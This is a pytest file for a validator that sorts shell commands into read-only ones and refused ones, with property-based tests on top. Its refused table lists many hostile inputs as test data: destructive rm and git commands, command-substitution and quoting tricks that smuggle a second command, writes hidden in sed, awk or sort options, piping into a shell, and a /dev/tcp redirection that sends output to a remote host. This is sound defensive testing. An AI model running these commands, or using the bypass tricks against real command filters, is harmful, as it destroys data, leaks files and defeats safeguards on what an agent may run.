"""The glance table: which commands the coordinator may run itself (and whose results expire).

Each row is (command, ephemeral, why). A non-empty `why` marks an adversarial row and says what it tries.
"""

from __future__ import annotations

import threading

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from flower.glance import GlanceVerdict, glance_verdict, is_ephemeral

SEED = 'git status -s && echo "--- LOG ---" && git log --oneline -3'

ACCEPTED: list[tuple[str, bool, str]] = [
    (SEED, True, ""),
    ("ls", True, ""),
    ("ls -la", True, ""),
    ("ls -la src/ tests/", True, ""),
    ("ls -la ~", True, ""),
    ("ls ${HOME}", True, ""),
    ("pwd", True, ""),
    ("cat README.md", True, ""),
    ("head -n 20 flower/glance.py", True, ""),
    ("head -5 a.txt b.txt", True, ""),
    ("tail -n 50 build.log", True, ""),
    ("tail -c 100 f", True, ""),
    ("wc -l src/*.py", True, ""),
    ("file data.bin", True, ""),
    ("stat -c %s f", True, ""),
    ("du -sh .", True, ""),
    ("df -h . && du -sh *", True, ""),
    ("tree -L 2", True, ""),
    ('find . -name "*.py" -type f', True, ""),
    ("find src -maxdepth 2 -newer setup.py", True, ""),
    ('grep -rn "TODO" flower/', True, ""),
    ("grep -c import a.py", True, ""),
    ('egrep "a|b" f', True, ""),
    ("fgrep -x needle haystack.txt", True, ""),
    ('grep -E "^(def|class) " f.py', True, ""),
    ('rg -n "def main" src', True, ""),
    ("rg --files .", True, ""),
    ("sort data.txt", True, ""),
    ("sort -u -k2 names.txt", True, ""),
    ("uniq -c counts.txt", True, ""),
    ("cut -d, -f1 data.csv", True, ""),
    ("cut -d$'\\t' -f1 data.tsv", True, ""),
    ("git log --format=%an | sort | uniq -c | sort -rn | head", True, ""),
    ("nl -ba f", True, ""),
    ("column -t -s, data.csv", True, ""),
    ("basename /a/b/c.txt", True, ""),
    ("dirname /a/b/c.txt", True, ""),
    ("realpath .", True, ""),
    ("readlink -f link", True, ""),
    ("echo hello", True, ""),
    ('echo "$HOME"', True, ""),
    ("echo ~/projects", True, ""),
    ("echo \"a b\" 'c d'", True, ""),
    ("echo $?", True, ""),
    ("printf '%s\\n' a b", True, ""),
    ("printf 'x\\n' | tr a-z A-Z", True, ""),
    ("date", True, ""),
    ("date +%Y-%m-%d", True, ""),
    ("date -u -d @0 +%s", True, ""),
    ("whoami", True, ""),
    ("id -u", True, ""),
    ("uname -a", True, ""),
    ("hostname", True, ""),
    ("which python3", True, ""),
    ("type ls", True, ""),
    ("jq .name package.json", True, ""),
    ("jq -r '.dependencies | keys[]' package.json", True, ""),
    ("jq -n '1+1'", True, ""),
    ("diff a.txt b.txt", True, ""),
    ("cmp a b", True, ""),
    ("comm -12 a b", True, ""),
    ("md5sum f", True, ""),
    ("sha256sum dist/*.whl", True, ""),
    ("tac f", True, ""),
    ("true", True, ""),
    ("test -f pyproject.toml && echo yes", True, ""),
    ("[ -d .git ] || echo no", True, ""),
    ("sed -n '1,20p' f", True, ""),
    ("sed -n '/start/,/end/p' f", True, ""),
    ("sed 's/foo/bar/g' f", True, ""),
    ("sed -E 's#(a+)#<\\1>#g' f", True, ""),
    ("sed -e 's/a/b/' -e '3q' f", True, ""),
    ("sed -n 's/[0-9][0-9]*/N/gp' f", True, ""),
    ("cat f | sed -n 2p", True, ""),
    ("awk '{print $1}' f", True, ""),
    ("awk -F: '{print $1, $3}' /etc/passwd", True, ""),
    ("awk 'NR > 1 {s += $2} END {print s}' data.txt", True, ""),
    ("awk '{ if ($3 > 100) print $1 }' data.txt", True, ""),
    ("awk 'BEGIN {print 1+1}'", True, ""),
    ("awk '{print $1}' f | sort | uniq -c", True, ""),
    ("git status", True, ""),
    ("git diff --stat", True, ""),
    ("git diff HEAD~1 -- flower/", True, ""),
    ("git diff main...HEAD --stat", True, ""),
    ("git diff --no-ext-diff", True, ""),
    ("git log --oneline -10", True, ""),
    ("git log -p --follow -- README.md", True, ""),
    ("git log --format='%h %s' -5", True, ""),
    ("git log -1 --format=%cd --date=iso", True, ""),
    ("git log @{u}..HEAD", True, ""),
    ("git show HEAD:README.md", True, ""),
    ("git rev-parse --abbrev-ref HEAD", True, ""),
    ("git ls-files | wc -l", True, ""),
    ("git blame -L 10,20 f.py", True, ""),
    ("git shortlog -sn HEAD", True, ""),
    ("git describe --tags", True, ""),
    ("git show-ref --heads", True, ""),
    ("git cat-file -p HEAD", True, ""),
    ("git ls-tree -r HEAD --name-only", True, ""),
    ("git grep -n foo", True, ""),
    ("git branch", True, ""),
    ("git branch -a -v", True, ""),
    ("git branch --show-current", True, ""),
    ('git branch --list "feat/*"', True, ""),
    ("git branch --merged main", True, ""),
    ("git tag", True, ""),
    ('git tag -l "v1.*"', True, ""),
    ("git tag -n5", True, ""),
    ("git remote -v", True, ""),
    ("git remote get-url origin", True, ""),
    ("git config --get user.name", True, ""),
    ("git config --list --show-origin", True, ""),
    ("git stash list", True, ""),
    ("git --no-pager log -1", True, ""),
    ("git status --porcelain | wc -l", True, ""),
    ("git log --oneline | head -5", True, ""),
    ("ls -la | head -20", True, ""),
    ("ls 2>/dev/null", True, ""),
    ("ls missing > /dev/null 2>&1; echo $?", True, ""),
    ("ls 2>/dev/null -l", True, ""),
    ("cat f | grep x | wc -l", True, ""),
    ("find . -type f | sort | head", True, ""),
    ("ps aux | grep python", True, ""),
    ("git status |& head", True, ""),
    ("ls # list the files", True, ""),
    ("ls\n", True, ""),
    ("ls; pwd; git status", True, ""),
    ("git status\ngit log -1", True, ""),
    ("git status && \\\n  git log -1", True, ""),
    ("wc -l < README.md", True, ""),
    ("! grep -q foo f", True, ""),
    ("date -Iseconds", True, ""),
    ("sed 's/[[:space:]]*$//' f", True, ""),
    ("awk '{print ($1 > 2)}' f", True, ""),
    ("git ls-files | git cat-file --batch-check", True, ""),
    ("git log | git shortlog -sn", True, ""),
    ("< f cat", True, ""),
    ("2>/dev/null ls -la", True, ""),
    ("[ -f x ]", True, ""),
    ("echo $'a\\'; rm x'", True, "`; rm x` inside an ANSI-C string"),
    ("ls ; # x ; rm x", True, "`rm` inside a comment"),
    ("echo 'a;rm x' \"b && rm x\"", True, "operators inside quotes"),
    ("cat f | sort | uniq -c\nls && pwd", True, "newline the grammar swallows, read as bash does"),
    ("ls a#b", True, "# inside a word"),
    ("free -m && uptime", True, ""),
    ("printenv HOME", True, ""),
    ("env | grep PATH", True, ""),
    ("ulimit -a", True, ""),
    ("command -v git", True, ""),
    ("od -c data.bin | head", True, ""),
    ("hexdump -C data.bin | head", True, ""),
    ("lscpu", True, ""),
    ("locale -a", True, ""),
    ("git config user.name", True, ""),
    ("git show HEAD~1:README.md", True, ""),
    ("cat /proc/meminfo", True, ""),
]

REFUSED: list[tuple[str, bool, str]] = [
    ("rm -rf build", False, ""),
    ("mkdir x", False, ""),
    ("touch f", False, ""),
    ("cp a b", False, ""),
    ("mv a b", False, ""),
    ("cd src", False, ""),
    ("git commit -m x", False, ""),
    ("git push", False, ""),
    ("git checkout main", False, ""),
    ("git stash", False, ""),
    ("git reset --hard", False, ""),
    ("pip install x", False, ""),
    ("python script.py", False, ""),
    ("make", False, ""),
    ("cat", False, ""),
    ("grep foo", False, ""),
    ("sort", False, ""),
    ("", False, ""),
    ("   ", False, ""),
    ("# just a comment", False, ""),
    # Adversarial: every row below tries to get something past the check.
    ("git status && rm -rf x", False, "mutation after &&"),
    ("true || rm x", False, "mutation after ||"),
    ("git status; git push", False, "mutation after ;"),
    ("ls;rm x", False, "no spaces around ;"),
    ("ls\nrm -rf x", False, "second command after a newline"),
    ("ls # list\nrm x", False, "command on the line after a comment"),
    ("ls && \\\nrm x", False, "line continuation before the mutation"),
    ("sort -\\\no f x", False, "line continuation glues -o"),
    ("'rm' -rf x", False, "quoted verb"),
    ("r\\m -rf x", False, "escaped verb"),
    ("$'\\x72m' x", False, "ANSI-C quoted verb"),
    ("\u217cs", False, "unicode lookalike of ls"),
    ("LS", False, "case: LS is not ls"),
    ("/bin/rm x", False, "verb by path"),
    ("./ls", False, "whitelisted name by path"),
    ("ls\rrm x", False, "carriage return"),
    ("git status --output=x", False, "git output to a file"),
    ("git diff --out=x", False, "abbreviated --output"),
    ("git log --output x", False, "separate --output value"),
    ("git diff --ext-diff", False, "external diff program"),
    ("git log -p --textconv", False, "textconv program"),
    ("git log --show-signature", False, "runs gpg"),
    ("git log --format=%G?", False, "signature placeholder runs gpg"),
    ("git grep -O foo", False, "opens files in a pager"),
    ("git -c core.pager=rm log", False, "git -c config"),
    ("git -C . -c x=y status", False, "git -c after -C"),
    ("git --exec-path=./bin log", False, "git exec path"),
    ("git branch newbranch", False, "creates a branch"),
    ("git branch -D old", False, "deletes a branch"),
    ("git branch -m a b", False, "renames a branch"),
    ("git branch --set-upstream-to=origin/main", False, "sets upstream"),
    ("git tag v1", False, "creates a tag"),
    ("git tag -d v1", False, "deletes a tag"),
    ("git remote add o u", False, "adds a remote"),
    ("git remote set-url origin x", False, "changes a remote"),
    ("git remote show origin", False, "contacts the network"),
    ("git config user.name x", False, "sets config"),
    ("git config --unset user.name", False, "unsets config"),
    ("git config --global --add safe.directory x", False, "adds config"),
    ("git stash drop", False, "drops a stash"),
    ("git reflog expire --all", False, "expires the reflog"),
    ("find . -name x -delete", False, "find -delete"),
    ("find . -exec rm {} \\;", False, "find -exec"),
    ("find . -fprint out", False, "find -fprint"),
    ("find / 2>/dev/null -delete", False, "-delete hidden after a redirection"),
    ("sed -i 's/a/b/' f", False, "sed in place"),
    ("sed -ni 's/a/b/p' f", False, "sed -i in a cluster"),
    ("sed --in-place 's/a/b/' f", False, "sed --in-place"),
    ("sed 's/a/b/w out' f", False, "sed w flag"),
    ("sed -n 'sg[g]gp;sgwgagp' f", False, "bracket hides the delimiter"),
    ("sed -n 's/[/]/p;s/w/a/p' f", False, "bracket hides the delimiter"),
    ("sed '1e rm x' f", False, "sed e command"),
    ("sed 's/x/rm y/e' f", False, "sed e flag"),
    ("sed -f script.sed f", False, "sed script file"),
    ("awk 'BEGIN{system(\"rm x\")}'", False, "awk system"),
    ("awk '{print > \"f\"}' f", False, "awk print redirection"),
    ("awk '{print $1 > \"out/x\"}' f", False, "awk print redirection"),
    ('awk \'{ printf "%s", $0 >> "log" }\' f', False, "awk append redirection"),
    ("awk '{print | \"sh\"}' f", False, "awk pipe"),
    ("awk '{\"date\" | getline d}' f", False, "awk getline from a command"),
    ("awk -f prog.awk f", False, "awk program file"),
    ("awk '/x/ {print $0 > \"f\"}' f", False, "awk redirection next to a regex"),
    ("awk '@include \"x\"'", False, "gawk directive"),
    ("sort -o f x", False, "sort -o"),
    ("sort --output=f x", False, "sort --output"),
    ("sort -uo f x", False, "sort -o in a cluster"),
    ("sort --out=f x", False, "abbreviated --output"),
    ("sort --compress-program=sh x", False, "sort runs a program"),
    ("sort >/dev/null -o f x", False, "-o hidden after a redirection"),
    ("sort $OPTS f", False, "option from a variable"),
    ("sort {-o,out} f", False, "option from a brace expansion"),
    ("uniq a b", False, "uniq writes its second file"),
    ("tree -o out.txt", False, "tree writes a file"),
    ("rg --pre sh foo .", False, "rg preprocessor"),
    ("rg foo", False, "rg waits on a non-tty stdin"),
    ("file -C -m magic", False, "file compiles a magic file"),
    ("printf -v x hi", False, "printf assigns a variable"),
    ("tee f", False, "tee writes"),
    ("echo x | tee f", False, "tee in a pipe"),
    ("ls > f", False, "redirection to a file"),
    ("ls >> f", False, "append to a file"),
    ("ls &> f", False, "both streams to a file"),
    ("ls 2> f", False, "stderr to a file"),
    ("ls >| f", False, "clobber"),
    ("ls >& f", False, ">& to a file name"),
    ("ls <> f", False, "read-write open"),
    ("ls > /dev/nullx", False, "looks like /dev/null"),
    ("grep -r x . > /dev/tcp/example.com/80", False, "bash network redirection"),
    ("cat /dev/null > f", False, "truncates a file"),
    ("cat f | cat > g", False, "redirection at the end of a pipe"),
    ("jq . f > out.json", False, "jq output to a file"),
    ("cat > f", False, "writes stdin to a file"),
    ("echo $(rm x)", False, "command substitution"),
    ('echo "$(rm x)"', False, "command substitution in double quotes"),
    ("echo `rm x`", False, "backticks"),
    ('echo "a`rm x`b"', False, "backticks in double quotes"),
    ("ls $(echo)", False, "harmless-looking substitution"),
    ('echo "$(<f)"', False, "substitution reading a file"),
    ("cat <(rm x)", False, "process substitution"),
    ("ls | tee >(rm x)", False, "output process substitution"),
    ("diff <(ls) <(ls a)", False, "process substitution in diff"),
    ("echo ${X:=rm}", False, "expansion that assigns"),
    ("echo ${X:-$(rm y)}", False, "substitution nested in an expansion"),
    ("echo $((i++))", False, "arithmetic with a side effect"),
    ("ls &", False, "background job"),
    ("ls & rm x", False, "background job then mutation"),
    ("env rm x", False, "env wrapper"),
    ("xargs rm", False, "xargs wrapper"),
    ("cat f | xargs rm", False, "xargs in a pipe"),
    ("git log | xargs -n1 rm", False, "xargs after git"),
    ("exec rm x", False, "exec"),
    ('eval "rm x"', False, "eval"),
    ('bash -c "rm x"', False, "bash -c"),
    ("sh -c ls", False, "sh -c"),
    ('python -c "import os"', False, "python -c"),
    ("nohup rm x", False, "nohup wrapper"),
    ("timeout 5 rm x", False, "timeout wrapper"),
    ("sudo ls", False, "sudo"),
    ("command rm x", False, "command wrapper"),
    ("builtin cd /", False, "builtin wrapper"),
    ("time rm x", False, "time wrapper"),
    ("source script.sh", False, "source"),
    (". script.sh", False, "dot source"),
    ("ls | sh", False, "pipe into a shell"),
    ("ls | bash", False, "pipe into bash"),
    ("echo x | bash", False, "pipe into bash"),
    ("tail -f log", False, "never ends"),
    ("tail -F log", False, "never ends"),
    ("tail --follow=name log", False, "never ends"),
    ("tail -5f log", False, "follow in an obsolete cluster"),
    ("top", False, "interactive"),
    ("htop", False, "interactive"),
    ("watch ls", False, "never ends"),
    ("less f", False, "pager"),
    ("more f", False, "pager"),
    ("vi f", False, "editor"),
    ("man ls", False, "pager"),
    ("yes", False, "endless"),
    ("sleep 10", False, "waits"),
    ("FOO=bar ls", False, "prefix assignment"),
    ("PATH=. ls", False, "PATH hijack"),
    ("export X=1", False, "export"),
    ("alias ls=rm", False, "alias"),
    ("hostname newname", False, "sets the host name"),
    ('date -s "2020-01-01"', False, "sets the clock"),
    ("date 010112002020", False, "sets the clock with an operand"),
    ("hostname -f", False, "looks the name up, which can reach the network"),
    ("git -C ../other status", False, "-C opens another repository, whose configuration runs programs"),
    ("( rm x )", False, "subshell"),
    ("( ls )", False, "subshell, even harmless"),
    ("{ rm x; }", False, "group"),
    ("ls && (rm x)", False, "subshell after &&"),
    ("if true; then rm x; fi", False, "control flow"),
    ("for f in *; do rm $f; done", False, "loop"),
    ("while true; do ls; done", False, "endless loop"),
    ("f() { rm x; }; f", False, "function definition"),
    ("cat <<EOF > f\nx\nEOF", False, "heredoc writing a file"),
    ('grep x <<< "$(rm y)"', False, "here-string with a substitution"),
    ('echo "unterminated', False, "parse error"),
    ("ls |", False, "missing command"),
    ("ls &\\\n& rm x", False, "operator split by a continuation"),
    ("ls | cat | cat\nrm -rf x && true", False, "newline the grammar reads as a blank"),
    ("ls |\nrm x", False, "newline after a pipe continues the pipeline"),
    ("ls\n\\rm x", False, "newline the grammar folds into the next word"),
    ("pwd #c\n\\rm x", False, "newline after a comment folded into a word"),
    ("ls#;rm x", False, "# inside a word is not a comment"),
    ("[rm]", False, "[rm] is a glob to bash, not a test"),
    ("test -v 'a[$(rm x)]'", False, "test -v evaluates a subscript"),
    ("[ -v 'a[$(rm x)]' ]", False, "[ -v evaluates a subscript"),
    ("[ a > b ]", False, "> inside [ ] is a redirection"),
    ('[ -n "$X" ]', False, "run-time value in a test"),
    ("cat /dev/zero", False, "endless device"),
    ("wc -c < /dev/zero", False, "endless device as input"),
    ("tail $X f", False, "tail option from a variable"),
    ("git -C -c log", False, "-C swallowing an option"),
    ("git cat-file --batch", False, "waits on stdin"),
    ("sed 's/[]/]/x/' f", False, "bracket quirk in sed"),
    ("sed -n 1p\\;w\\ x f", False, "escaped ; and space hide a w command"),
    ('sort "-o" f x', False, "quoted option"),
    ('sort -"o" f x', False, "half-quoted option"),
    ('git status --out""put=x', False, "option split by empty quotes"),
    ('find . -de""lete', False, "action split by empty quotes"),
    ("ls && $RM x", False, "verb from a variable"),
    ("l's' -la", False, "partly quoted verb"),
    ("\\ls", False, "escaped verb (bypasses aliases)"),
    ("git log > /dev/null 2>&1 &", False, "background behind harmless redirections"),
    ("ls >/dev/./null", False, "another spelling of /dev/null"),
    ("ls > $DEVNULL", False, "redirection target from a variable"),
    ("echo ${x[$(rm y)]}", False, "substitution in a subscript"),
    ("ulimit -n 10", False, "ulimit sets a limit"),
    ("command git status", False, "command runs its operand"),
    ("git config edit", False, "git 2.46 opens an editor"),
    ("env -i ls", False, "env runs a command"),
    ("free -s 1", False, "repeats forever"),
]

CASES = ACCEPTED + REFUSED

EPHEMERAL = [c for c, ok, _ in ACCEPTED if ok]
# Joined with an operator, these stay one command each: no comment, newline or leading `!`.
JOINABLE = [c for c in EPHEMERAL if "#" not in c and "\n" not in c and not c.startswith("!")]
# Refused because of what they are, whatever comes before or after them: not empty, not a comment
# only, not cut short (`ls |` followed by a newline and a glance is a complete pipeline).
HARMFUL = [
    c
    for c, ok, _ in REFUSED
    if not ok and c.strip() and not c.startswith("#") and not c.endswith(("|", "&&", "||"))
]
# Refused only because nothing feeds their standard input; after a pipe they are fine.
READS_TERMINAL = {"cat", "grep foo", "sort", "rg foo", "git cat-file --batch"}


def _id(command: str) -> str:
    return repr(command)


def test_table_size() -> None:
    adversarial = [c for c, _, why in CASES if why]
    assert len(CASES) >= 150
    assert len(adversarial) >= 60
    assert len({c for c, _, _ in CASES}) == len(CASES), "duplicate rows"


@pytest.mark.parametrize(("command", "expected", "why"), CASES, ids=[_id(c) for c, _, _ in CASES])
def test_table(command: str, expected: bool, why: str) -> None:
    verdict = glance_verdict(command)
    assert verdict.ephemeral is expected, verdict.reason
    assert is_ephemeral(command) is verdict.ephemeral
    if not expected:
        assert verdict.reason.strip()


def test_seed_compound_segments() -> None:
    verdict = glance_verdict(SEED)
    assert verdict == GlanceVerdict(
        True,
        verdict.reason,
        ("git status -s", 'echo "--- LOG ---"', "git log --oneline -3"),
        verdict.command,
    )


def test_refusal_names_the_part() -> None:
    verdict = glance_verdict("git status && rm -rf x")
    assert verdict.reason == "`rm` is not a read-only command"
    assert verdict.segments == ("git status", "rm -rf x")


@pytest.mark.parametrize("value", [None, b"ls", ["ls"], 3])
def test_a_value_that_is_not_a_str_is_refused(value: object) -> None:
    assert is_ephemeral(value) is False  # type: ignore[arg-type]
    verdict = glance_verdict(value)  # type: ignore[arg-type]
    assert not verdict.ephemeral and "not a str" in verdict.reason and verdict.command == ""


def test_empty_is_not_ephemeral() -> None:
    assert is_ephemeral("") is False
    assert glance_verdict("").reason


def test_verdict_is_frozen() -> None:
    verdict = glance_verdict("ls")
    with pytest.raises(AttributeError):
        verdict.ephemeral = False  # type: ignore[misc]


def test_threads_agree() -> None:
    expected = [is_ephemeral(c) for c, _, _ in CASES]
    results: list[list[bool]] = []

    def run() -> None:
        results.append([is_ephemeral(c) for c, _, _ in CASES])

    threads = [threading.Thread(target=run) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert results == [expected] * 4


OPERATORS = [" && ", " || ", "; ", " | ", "\n"]


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(JOINABLE), st.sampled_from(OPERATORS), st.sampled_from(JOINABLE))
def test_two_glances_joined_stay_a_glance(first: str, operator: str, second: str) -> None:
    assert is_ephemeral(first + operator + second), first + operator + second


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(JOINABLE),
    st.sampled_from(OPERATORS),
    st.sampled_from(HARMFUL),
    st.booleans(),
)
def test_a_glance_joined_with_a_refused_command_is_refused(
    glance: str, operator: str, refused: str, refused_first: bool
) -> None:
    # `ls | cat` is fine: the pipe feeds it.
    assume(not (operator == " | " and not refused_first and refused in READS_TERMINAL))
    command = refused + operator + glance if refused_first else glance + operator + refused
    assert not is_ephemeral(command), command
